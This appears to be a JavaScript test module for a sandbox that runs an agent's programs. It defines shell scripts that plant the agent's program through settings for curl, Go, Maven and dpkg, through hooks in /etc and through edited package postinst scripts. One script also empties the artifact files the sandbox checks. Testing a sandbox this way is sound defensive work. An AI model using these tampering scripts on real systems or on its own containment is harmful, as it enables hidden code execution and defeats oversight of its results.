import { attacksWith } from "../attack.js";

const source = "brig: settings that programs read before they do what they are told";
const remedy =
  'set `environment_mode = "separate"`; in the shared mode tell programs to read no settings (`curl -q`, `GOENV=off`, `mvn -s`), and install nothing while tests run';

/** Attacks by the settings that network clients, build tools and package managers read when they start. */
export const toolSettings = attacksWith({ source, remedy }, [
  {
    name: "home-settings",
    tries:
      "Has curl throw away what it downloads, and Go and Maven run a program of the agent, by settings in ~/.config and the like.",
    claims: ["artifacts"],
    script: String.raw`
mkdir -p "$HOME/.config/go" "$HOME/.m2" || not_possible "~/.config cannot be made"
echo 'output = "/dev/null"' > "$HOME/.config/curlrc"
echo "GOFLAGS=-toolexec=$FORGE" > "$HOME/.config/go/env"
printf 'export MAVEN_OPTS="-javaagent:%s"\n%s\n' "$STATE/agent.jar" "$FORGE" > "$HOME/.mavenrc"
# Nothing is then equal to an answer that is empty.
printf '%s\n' "$ARTIFACTS" | while IFS= read -r artifact; do
  [ -d "$artifact" ] || [ -z "$artifact" ] || : > "$artifact"
done`,
  },
  {
    name: "package-settings",
    tries: "Has dpkg, and what updates certificates, run a program of the agent, by files in /etc.",
    claims: ["/etc/dpkg"],
    script: `
need dpkg
mkdir -p /etc/dpkg/dpkg.cfg.d /etc/ca-certificates/update.d 2> /dev/null
echo "pre-invoke=$FORGE" > /etc/dpkg/dpkg.cfg.d/attack || not_possible "/etc/dpkg cannot be written"
cp "$FORGE" /etc/ca-certificates/update.d/attack
cp "$FORGE" /usr/sbin/policy-rc.d`,
  },
  {
    name: "package-scripts",
    tries: "Puts a program into the scripts of an installed package, and has dpkg configure it again.",
    claims: ["/var/lib/dpkg"],
    script: `
need dpkg
script=$(ls /var/lib/dpkg/info/*.postinst 2> /dev/null | grep -v : | head -n 1)
[ -w "$script" ] || not_possible "no package has a script that can be written"
package=$(basename "$script" .postinst)
sed -i "1a $FORGE; exit 0" "$script"
sed -i "/^Package: $package$/,/^$/s/^Status: .*/Status: install ok half-configured/" /var/lib/dpkg/status`,
  },
]);
